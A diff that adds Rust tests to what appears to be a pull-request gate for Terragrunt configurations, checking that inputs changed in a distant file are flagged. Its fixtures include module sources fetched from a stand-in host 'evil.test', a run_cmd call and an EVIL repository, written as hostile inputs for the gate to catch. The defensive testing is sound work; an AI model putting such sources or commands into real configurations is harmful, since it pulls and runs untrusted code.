@@ -272,3 +272,37 @@ help: write source and version as plain text, or compute them from locals
 "#]]);
     gate.run(&["-r", "--warn", "made-unknown"]).assert_code(0);
 }
+
+/// A unit whose inputs come from a file that is in no directory above it, and choose a module.
+fn inputs_from_elsewhere(gate: &Gate) {
+    gate.root("modules/m", super::NULL, &[super::H1, super::ZH]);
+    gate.write("modules/m/lib/main.tf", "locals {}\n");
+    gate.write("modules/m/net.tf", format!("variable \"s\" {{}}\n{}", call("var.s")));
+    let source = "terraform {\n  source = \"../../modules/m\"\n}\n".to_owned();
+    let inputs_of = "inputs = read_terragrunt_config(\"../../env/c.hcl\").inputs\n";
+    gate.write("units/u/terragrunt.hcl", source + inputs_of);
+    gate.write("units/u/.terraform.lock.hcl", gate.read("modules/m/.terraform.lock.hcl"));
+    inputs(gate, "\"./lib\"");
+}
+
+fn inputs(gate: &Gate, source: &str) {
+    gate.write("env/c.hcl", format!("inputs = {{\n  s = {source}\n}}\n"));
+}
+
+#[test]
+fn values_of_a_unit_from_any_file_are_compared() {
+    all_are_errors(
+        "a pull request alters the values of a unit in a file elsewhere",
+        inputs_from_elsewhere,
+        &[
+            ("a source that is not fetched", |gate| inputs(gate, "\"s3::https://evil.test/m.zip\""), "made-unknown"),
+            ("a command", |gate| inputs(gate, "run_cmd(\"x\")"), "made-unknown"),
+            ("a repository", |gate| inputs(gate, &format!("\"{EVIL}\"")), "made-unknown"),
+            (
+                "values beside the module",
+                |gate| gate.write("modules/m/terraform.tfvars", "s = \"s3::https://evil.test/m.zip\"\n"),
+                "made-unknown",
+            ),
+        ],
+    );
+}
